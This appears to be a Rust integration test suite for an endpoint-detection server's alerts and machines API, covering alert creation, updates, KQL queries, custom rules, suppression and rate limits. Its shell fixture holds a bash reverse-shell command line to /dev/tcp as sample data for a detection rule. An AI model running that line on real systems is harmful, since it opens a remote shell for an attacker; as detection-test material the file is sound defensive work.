//! From a row to an alert, and what clients do with it, over the real server.

use std::time::{Duration, Instant};

use schema::{Row, col};
use serde_json::{Value as Json, json};

use crate::support::{Answer, Device, JSON, Rig, process, row};

/// A process that one of our own rules is about.
fn shell(ms: i64, key: &str, parent: &str) -> Row {
    let mut row = process(ms, key, parent, "bash");
    row.set(&col::FOLDER_PATH, "/usr/bin/bash")
        .set(&col::PROCESS_COMMAND_LINE, "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
        .set(&col::ACCOUNT_NAME, "ann")
        .set(&col::SHA1, "aa".repeat(20));
    row
}

async fn send(rig: &Rig, path: &str, method: &str, body: &Json) -> Answer {
    let cookie = rig.cookie();
    rig.portal(path, &["-b", &cookie, "-H", JSON, "-X", method], Some(body.to_string().into_bytes())).await
}

/// The alerts of a query, as soon as there are `n`.
async fn alerts(rig: &Rig, query: &str, n: usize) -> Vec<Json> {
    let started = Instant::now();
    loop {
        let body = rig.json(&format!("/api/alerts{query}")).await;
        let found = body["value"].as_array().unwrap().clone();
        if found.len() >= n {
            assert_eq!(found.len(), n, "{found:#?}");
            return found;
        }
        assert!(started.elapsed() < Duration::from_secs(20), "{n} alerts expected, {} found", found.len());
        tokio::time::sleep(Duration::from_millis(150)).await;
    }
}

async fn rig() -> (Rig, Device) {
    let rig = Rig::start().await;
    let device = rig.enrol("host-1").await;
    (rig, device)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_match_is_an_alert_within_five_seconds() {
    let (rig, device) = rig().await;
    rig.send(&device, 1, &[row(0, "FileCreated"), shell(1, "p1", "sh")]).await;
    let acknowledged = Instant::now();
    let found = alerts(&rig, "", 1).await;
    let waited = acknowledged.elapsed();
    assert!(waited < Duration::from_secs(5), "{waited:?}");
    let alert = &found[0];
    assert_eq!(alert["title"], "Shell connected to the network by /dev/tcp");
    assert_eq!(alert["severity"], "High");
    assert_eq!(alert["status"], "New");
    assert_eq!(alert["category"], "Execution");
    assert_eq!(alert["mitreTechniques"], json!(["T1059.004"]));
    assert_eq!(alert["machineId"], device.id);
    assert_eq!(alert["computerDnsName"], "host-1");
    assert_eq!(alert["relatedUser"]["userName"], "ann");
    assert_eq!(alert["evidence"], json!([]));
    assert_eq!(alert["firstEventTime"], "2026-11-24T00:00:00.0010000Z");
    let created = alert["alertCreationTime"].as_str().unwrap();
    assert_eq!(created.len(), "2026-11-24T00:00:00.0000000Z".len());
    let expanded = alerts(&rig, "?$expand=evidence", 1).await;
    let process = &expanded[0]["evidence"].as_array().unwrap()[0];
    assert_eq!(process["entityType"], "Process");
    assert_eq!(process["processId"], 101);
    assert_eq!(process["registryKey"], Json::Null);
    assert_eq!(process.as_object().unwrap().len(), 25);
    // The script of the story: the last 24 hours, `+` for the spaces.
    let script = format!("?$filter=alertCreationTime+ge+{created}");
    assert_eq!(alerts(&rig, &script, 1).await.len(), 1);
    let body = rig.json("/api/v1.0/alerts?$filter=severity%20eq%20'Low'").await;
    assert_eq!(body["value"], json!([]));
    assert!(body["@odata.context"].as_str().unwrap().ends_with("/api/v1.0/$metadata#Alerts"));
    assert_eq!(rig.get("/api/alerts/$count").await.body, "1");
    let id = alert["id"].as_str().unwrap();
    let one = rig.json(&format!("/api/alerts/{id}")).await;
    assert_eq!(one["evidence"].as_array().unwrap().len(), 2);
    for (related, expected) in [("ips", json!([])), ("domains", json!([]))] {
        assert_eq!(rig.json(&format!("/api/alerts/{id}/{related}")).await["value"], expected);
    }
    assert_eq!(rig.json(&format!("/api/alerts/{id}/files")).await["value"][0]["sha1"], "aa".repeat(20));
    assert_eq!(rig.json(&format!("/api/alerts/{id}/machine")).await["riskScore"], "High");
    assert_eq!(rig.json(&format!("/api/alerts/{id}/user")).await["accountName"], "ann");
    let detail = rig.json(&format!("/api/v1/alerts/{id}")).await;
    assert_eq!(detail["events"], json!([format!("{}:000000000000abcd:2", device.id)]));
}

#[tokio::test(flavor = "multi_thread")]
async fn one_tree_is_one_alert_and_a_row_counts_once() {
    let (rig, device) = rig().await;
    let rows = [shell(1, "p1", "sh"), shell(2, "p2", "p1"), shell(3, "p3", "p2"), shell(4, "q1", "other")];
    rig.send(&device, 1, &rows).await;
    // Sent again, as after a lost acknowledgement.
    rig.send(&device, 1, &rows).await;
    let found = alerts(&rig, "?$orderby=firstEventTime", 2).await;
    let detail = rig.json(&format!("/api/v1/alerts/{}", found[0]["id"].as_str().unwrap())).await;
    assert_eq!(detail["nEvents"], 3);
    assert_ne!(found[0]["incidentId"], found[1]["incidentId"]);
    let history = send(&rig, "/api/v1/detections/history", "POST", &json!({ "from": "2026-11-23T00:00:00Z" })).await;
    assert_eq!(history.json(), json!({ "rows": 4, "matches": 4, "alerts": 0 }));
    assert_eq!(alerts(&rig, "", 2).await.len(), 2);
}

#[tokio::test(flavor = "multi_thread")]
async fn people_change_alerts() {
    let (rig, device) = rig().await;
    rig.send(&device, 1, &[shell(1, "p1", "sh"), shell(2, "q1", "other")]).await;
    let found = alerts(&rig, "?$orderby=firstEventTime asc".replace(' ', "%20").as_str(), 2).await;
    let ids: Vec<&str> = found.iter().map(|alert| alert["id"].as_str().unwrap()).collect();
    let path = format!("/api/alerts/{}", ids[0]);
    let change = json!({ "status": "resolved", "classification": "TruePositive", "determination": "Malware",
        "assignedTo": "bob", "comment": "cleaned" });
    let answer = send(&rig, &path, "PATCH", &change).await;
    assert_eq!(answer.status, 200, "{answer:?}");
    let alert = answer.json();
    assert_eq!(alert["status"], "Resolved");
    assert_eq!(alert["assignedTo"], "bob");
    assert_eq!(alert["comments"][0]["comment"], "cleaned");
    assert_eq!(alert["comments"][0]["createdBy"], "admin");
    assert!(alert["resolvedTime"].is_string());
    let open = alerts(&rig, "?$filter=status%20ne%20'Resolved'", 1).await;
    assert_eq!(open[0]["id"], ids[1]);
    for (body, code) in [
        (json!({}), "InvalidRequestBody"),
        (json!({ "Status": "New" }), "InvalidRequestBody"),
        (json!({ "status": "Nonsense" }), "InvalidRequestBody"),
        (json!({ "classification": "Nonsense" }), "InvalidRequestBody"),
        (json!({ "comment": "x".repeat(10_001) }), "InvalidRequestBody"),
    ] {
        let answer = send(&rig, &path, "PATCH", &body).await;
        assert_eq!((answer.status, answer.code().as_str()), (400, code), "{body}");
    }
    let unknown = send(&rig, "/api/alerts/da1_1", "PATCH", &json!({ "status": "New" })).await;
    assert_eq!((unknown.status, unknown.code().as_str()), (404, "ResourceNotFound"));
    let batch = json!({ "alertIds": ids, "status": "InProgress" });
    let answer = send(&rig, "/api/alerts/batchUpdate", "POST", &batch).await;
    assert_eq!((answer.status, answer.body.as_str()), (200, ""));
    assert_eq!(alerts(&rig, "?$filter=status%20eq%20'InProgress'", 2).await.len(), 2);
    let batch = json!({ "alertIds": [ids[0], "da1_1"], "status": "New" });
    assert_eq!(send(&rig, "/api/alerts/batchUpdate", "POST", &batch).await.status, 404);
    assert_eq!(alerts(&rig, "?$filter=status%20eq%20'InProgress'", 2).await.len(), 2);
    let bad = rig.get("/api/alerts?$filter=nonsense%20eq%201").await;
    assert_eq!((bad.status, bad.code().as_str()), (400, "ODataError"));
}

#[tokio::test(flavor = "multi_thread")]
async fn clients_make_alerts_for_events() {
    let (rig, device) = rig().await;
    rig.send(&device, 1, &[row(5, "FileCreated"), row(6, "FileCreated")]).await;
    let body = |report: &str| {
        json!({ "machineId": device.id, "eventTime": "2026-11-24T00:00:00.0050000Z", "reportId": report,
            "severity": "Low", "title": "odd file", "description": "d", "recommendedAction": "look", "category": "Malware" })
    };
    let answer = send(&rig, "/api/alerts/CreateAlertByReference", "POST", &body("1")).await;
    assert_eq!(answer.status, 200, "{answer:?}");
    let alert = answer.json();
    assert_eq!((&alert["title"], &alert["severity"]), (&json!("odd file"), &json!("Low")));
    assert_eq!(alert["recommendedAction"], "look");
    let again = send(&rig, "/api/alerts/createAlertByReference", "POST", &body("1")).await;
    assert_eq!(again.json()["id"], alert["id"]);
    assert_eq!(send(&rig, "/api/alerts/createAlertByReference", "POST", &body("99")).await.status, 404);
    assert_eq!(send(&rig, "/api/alerts/createAlertByReference", "POST", &body("x")).await.status, 400);
    assert_eq!(alerts(&rig, "", 1).await.len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn alerts_are_tables_of_kql() {
    let (rig, device) = rig().await;
    rig.send(&device, 1, &[shell(1, "p1", "sh")]).await;
    alerts(&rig, "", 1).await;
    let query = "AlertInfo | join kind=inner (AlertEvidence | where EntityType == 'Process') on AlertId
        | project Title, Severity, ProcessCommandLine, DeviceId, age = now() - Timestamp < 1h";
    let answer = send(&rig, "/api/advancedqueries/run", "POST", &json!({ "Query": query })).await;
    let rows = answer.json()["Results"].clone();
    assert_eq!(rows[0]["Severity"], "High", "{answer:?}");
    assert_eq!(rows[0]["DeviceId"], device.id);
    assert_eq!(rows[0]["age"], true);
    let count = json!({ "Query": "AlertEvidence | summarize n = count() by EntityType | sort by EntityType asc" });
    let answer = send(&rig, "/api/advancedqueries/run", "POST", &count).await.json();
    let kinds: Vec<&str> =
        answer["Results"].as_array().unwrap().iter().map(|it| it["EntityType"].as_str().unwrap()).collect();
    assert_eq!(kinds, ["Machine", "Process", "User"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_rule_of_the_user_is_taken_while_the_server_runs() {
    let (rig, device) = rig().await;
    let folder = rig.dir.path().join("server/rules/mine");
    std::fs::create_dir_all(&folder).unwrap();
    let rule = "title: Odd file\nid: odd-file\nlevel: low\nlogsource: {category: file_event}\ndetection:\n  s:\n    TargetFilename|endswith: /odd\n  condition: s\n";
    std::fs::write(folder.join("odd.yml"), rule).unwrap();
    std::fs::write(folder.join("broken.yml"), "title: [").unwrap();
    let started = Instant::now();
    loop {
        let state = rig.json("/api/v1/detections").await;
        if state["nProblems"] == 1 {
            assert_eq!(state["problems"][0]["file"], "mine/broken.yml");
            break;
        }
        assert!(started.elapsed() < Duration::from_secs(20), "{state}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let mut odd = row(1, "FileCreated");
    odd.set(&col::FOLDER_PATH, "/tmp/odd");
    rig.send(&device, 1, &[odd.clone()]).await;
    let found = alerts(&rig, "", 1).await;
    assert_eq!((&found[0]["title"], &found[0]["detectorId"]), (&json!("Odd file"), &json!("odd-file")));
    // Suppressed, the next one is resolved as it is made.
    let answer = send(&rig, "/api/v1/suppressions", "POST", &json!({ "rule": "odd-file", "reason": "known" })).await;
    assert_eq!(answer.status, 204, "{answer:?}");
    odd.set(&col::INITIATING_PROCESS_UNIQUE_ID, "another");
    rig.send(&device, 2, &[odd]).await;
    let found = alerts(&rig, "?$filter=status%20eq%20'Resolved'", 1).await;
    assert_eq!(found[0]["investigationState"], "SuppressedAlert");
}

#[tokio::test(flavor = "multi_thread")]
async fn machines() {
    let (rig, device) = rig().await;
    let body = rig.json("/api/machines?$filter=computerDnsName%20eq%20'host-1'").await;
    assert_eq!(body["value"][0]["id"], device.id);
    assert_eq!(body["value"][0]["riskScore"], "None");
    assert_eq!(rig.json("/api/machines?$filter=computerDnsName%20eq%20'other'").await["value"], json!([]));
    let tag = json!({ "Value": "lab", "Action": "Add" });
    let answer = send(&rig, &format!("/api/machines/{}/tags", device.id), "POST", &tag).await;
    assert_eq!(answer.json()["machineTags"], json!(["lab"]));
    let tagged = rig.json("/api/machines?$filter=machineTags/any(t:t%20eq%20'lab')").await;
    assert_eq!(tagged["value"].as_array().unwrap().len(), 1);
    assert_eq!(rig.json("/api/machines/HOST-1").await["id"], device.id);
    assert_eq!(rig.get("/api/machines/none").await.code(), "ResourceNotFound");
    assert_eq!(rig.get("/api/machines/findbyip(ip='x')").await.code(), "InvalidIpAddress");
    assert_eq!(rig.json("/api/machines/findbyip(ip='192.0.2.1')").await["value"], json!([]));
    assert_eq!(rig.json(&format!("/api/machines/{}/alerts", device.id)).await["value"], json!([]));
}

#[tokio::test(flavor = "multi_thread")]
async fn calls_are_limited_and_strangers_refused() {
    let (rig, _device) = rig().await;
    for path in ["/api/alerts", "/api/v1.0/alerts", "/api/machines", "/api/alerts/x", "/api/v1/detections"] {
        assert_eq!(rig.portal(path, &[], None).await.status, 401, "{path}");
    }
    let mut last = None;
    for _ in 0..101 {
        last = Some(rig.get("/api/alerts/$count").await);
    }
    let last = last.unwrap();
    assert_eq!((last.status, last.code().as_str()), (429, "TooManyRequests"));
    let seconds: u32 = last.retry_after.unwrap().parse().unwrap();
    assert!((1..=61).contains(&seconds), "{seconds}");
}
